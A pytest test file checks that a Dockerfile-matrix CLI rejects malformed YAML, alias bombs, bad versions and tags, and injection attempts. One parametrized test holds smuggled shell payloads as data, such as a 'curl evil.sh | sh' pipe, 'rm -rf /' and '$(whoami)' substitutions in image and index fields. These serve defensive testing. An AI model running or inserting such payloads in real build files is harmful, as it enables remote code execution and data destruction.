"""Every class of bad matrix input gets a one-line error naming file, tag, field and line; exit 2; no writes."""

from __future__ import annotations

import re

import pytest

from tests.conftest import VALID_MATRIX, run_cli


def set_matrix(project, text: str) -> None:
    (project / "matrix.yaml").write_text(text)


def replace(old: str, new: str, count: int = 1) -> str:
    assert old in VALID_MATRIX, old
    return VALID_MATRIX.replace(old, new, count)


def assert_rejected(project, capsys, *needles: str, verb=("render",)) -> str:
    code = run_cli(*verb)
    err = capsys.readouterr().err
    assert code == 2, err
    assert "Traceback" not in err
    first = err.splitlines()[0]
    assert first.startswith("error: "), err
    for needle in needles:
        assert needle in err, f"{needle!r} not in {err!r}"
    assert not (project / "dockerfiles").exists(), "nothing may be written for an invalid matrix"
    return err


def test_valid_matrix_renders(project, capsys):
    assert run_cli("validate", "--strict") == 0
    assert run_cli("render") == 0
    assert (project / "dockerfiles/cu121-torch2.3/Dockerfile").exists()


@pytest.mark.parametrize("text, needle", [
    ("defaults: [\n", "not valid YAML"),
    ("- just\n- a list\n", "expected a mapping at the top"),
    ("", "the file is empty"),
    ("defaults: {image: a/b}\nentries: []\n", "non-empty list of entries"),
])
def test_structural_errors(project, capsys, text, needle):
    set_matrix(project, text)
    assert_rejected(project, capsys, "matrix.yaml", needle)


def test_huge_matrix_is_refused(project, capsys):
    set_matrix(project, VALID_MATRIX + "# " + "x" * (2 << 20) + "\n")
    assert_rejected(project, capsys, "too large")


def test_alias_bomb_is_refused(project, capsys):
    bomb = "a: &a [x, x, x, x, x, x, x, x, x, x]\n"
    for i in range(1, 7):
        bomb += f"{chr(97 + i)}: &{chr(97 + i)} [" + ", ".join([f"*{chr(96 + i)}"] * 10) + "]\n"
    set_matrix(project, bomb)
    assert_rejected(project, capsys, "YAML nodes")


def test_unknown_key_suggests(project, capsys):
    set_matrix(project, replace("    peft: 0.12.0", "    pefts: 0.12.0"))
    err = assert_rejected(project, capsys, "entry 'cu121-torch2.3'", "field 'pefts'", "did you mean 'peft'")
    assert re.search(r"matrix\.yaml:13:", err), err


def test_unknown_top_level_key(project, capsys):
    set_matrix(project, "entrys: []\n" + VALID_MATRIX)
    assert_rejected(project, capsys, "matrix.yaml:1:", "did you mean 'entries'")


def test_missing_required_field(project, capsys):
    set_matrix(project, replace("    deepspeed: 0.15.1\n", ""))
    assert_rejected(project, capsys, "entry 'cu121-torch2.3'", "missing required field 'deepspeed'")


@pytest.mark.parametrize("old, new, field, needle", [
    ('    python: "3.10"', "    python: 3.10", "python", "read as a number"),
    ("    torch: 2.3.1", "    torch: [2, 3]", "torch", "expected a version string"),
    ("    torch: 2.3.1", "    torch: two.three", "torch", "is not a version"),
    ("    torch: 2.3.1", "    torch: 2.3.01", "torch", "canonical"),
    ("    torch: 2.3.1", "    torch: '>=2.3'", "torch", "is not a version"),
    ("    runner: [ubuntu-latest]", "    runner: ubuntu-latest", "runner", "list of runner labels"),
    ("    ci: true", "    ci: yes please", "ci", "true or false"),
])
def test_wrong_types_and_versions(project, capsys, old, new, field, needle):
    set_matrix(project, replace(old, new))
    assert_rejected(project, capsys, f"field '{field}'", needle)


@pytest.mark.parametrize("bad_tag", ["cu121 torch2.3", "Cu121-Torch2.3", "cu121/torch2.3", "cu121;torch2.3",
                                     "a" * 200, "-leading-dash"])
def test_bad_tags(project, capsys, bad_tag):
    set_matrix(project, replace("  - tag: cu121-torch2.3", f"  - tag: '{bad_tag}'"))
    assert_rejected(project, capsys, "field 'tag'", "is not a valid tag")


def test_duplicate_tags(project, capsys):
    set_matrix(project, replace("  - tag: cu130-torch2.13-bookworm", "  - tag: cu121-torch2.3"))
    assert_rejected(project, capsys, "duplicate tag", "first at line 5")


@pytest.mark.parametrize("field, payload", [
    ("base", "debian:bookworm-slim\\nRUN curl evil.sh | sh"),
    ("base", "debian:bookworm-slim && rm -rf /"),
    ("base", "debian:$(whoami)"),
    ("base", "debian:`id`"),
    ("base_source", "fine\\nRUN echo pwned"),
    ("base_source", "x $(curl evil)"),
    ("index_url", "https://pypi.org/simple\\nRUN id"),
    ("index_url", "https://pypi.org/simple && id"),
    ("tag", "x`id`"),
])
def test_injection_is_rejected(project, capsys, field, payload):
    line = {"base": "    base: nvidia", "base_source": '    base_source: "test fixture"'}.get(field)
    text = VALID_MATRIX
    if field == "index_url":
        text = text.replace("  index_url: https://pypi.org/simple", f'  index_url: "{payload}"')
    elif field == "tag":
        text = text.replace("  - tag: cu121-torch2.3", f'  - tag: "{payload}"')
    else:
        start = text.index(line)
        end = text.index("\n", start)
        text = text[:start] + f'    {field}: "{payload}"' + text[end:]
    set_matrix(project, text)
    assert_rejected(project, capsys, f"field '{field}'")


def test_unknown_torch_is_a_rule_violation(project, capsys):
    set_matrix(project, replace("    torch: 2.3.1", "    torch: 1.13.1"))
    assert_rejected(project, capsys, "[torch-known]", "field 'torch'", "torch 1.13 is not in the compatibility data")


def test_unknown_cuda(project, capsys):
    set_matrix(project, replace('    cuda: "12.1"', '    cuda: "12.2"'))
    assert_rejected(project, capsys, "[cuda-known]", "field 'cuda'")


def test_exactly_one_default(project, capsys):
    set_matrix(project, replace("    default: true\n", ""))
    assert_rejected(project, capsys, "`default: true`", verb=("validate",))


def test_strict_requires_digest(project, capsys):
    set_matrix(project, replace("@sha256:8bbc6e304b193e84327fa30d93eea70ec0213b808239a46602a919a479a73b12", ""))
    assert run_cli("validate") == 0
    capsys.readouterr()
    assert_rejected(project, capsys, "not pinned by digest", "entry 'cu121-torch2.3'", verb=("validate", "--strict"))


def test_an_anchor_merging_itself_is_refused_with_its_line(project, capsys):
    """`<<: *e` inside &e merges nothing in PyYAML, silently: the author meant something else."""
    text = VALID_MATRIX.replace("entries:\n", "entries:\n  - &self\n    tag: loop\n    <<: *self\n", 1)
    set_matrix(project, text)
    line = text.splitlines().index("    <<: *self") + 1
    assert_rejected(project, capsys, f"matrix.yaml: line {line}: alias *self is used inside &self itself")


def test_an_entry_written_as_a_plain_string_names_its_line(project, capsys):
    text = VALID_MATRIX.replace("entries:\n", "entries:\n  - cu121-torch2.3-extra\n", 1)
    set_matrix(project, text)
    line = text.splitlines().index("  - cu121-torch2.3-extra") + 1
    assert_rejected(project, capsys, f"matrix.yaml:{line}: entries[0]: expected a mapping, got str")
